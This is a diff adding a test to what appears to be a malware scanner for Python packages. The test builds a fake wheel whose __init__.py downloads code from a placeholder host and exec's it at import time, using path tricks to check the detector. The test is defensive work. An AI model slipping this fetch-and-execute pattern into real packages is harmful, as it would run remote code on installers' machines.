@@ -136,3 +136,27 @@ describe('lines that an interpreter is told are commands', () => {
     expect(await inspect('shell-payload', file)).toEqual([]);
   });
 });
+
+test('places are told apart by parents and halves of a path, and not at all when nothing is known of them', async () => {
+  const running = (...lines: string[]): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, pathlib, requests',
+        'from other import places',
+        'def fetch(): return requests.get("https://files.drop.invalid/a.py").text',
+        ...lines,
+      ),
+    });
+
+  for (const [written, read] of [
+    ["pathlib.Path('/opt/a/b/c').parents[1] / 'x.py'", "'/opt/a/x.py'"],
+    ["os.path.join(os.path.split('/opt/a/b')[0], 'x.py')", "'/opt/a/x.py'"],
+  ] as const)
+    expect(
+      await inspect('remote-code', running(`open(${written}, 'w').write(fetch())`, `exec(open(${read}).read())`)),
+      written,
+    ).toMatchObject([{ class: 'malware', context: 'import' }]);
+  expect(
+    await inspect('remote-code', running('open([].pop(), "w").write(fetch())', 'exec(open(().index(1)).read())')),
+  ).toEqual([]);
+});
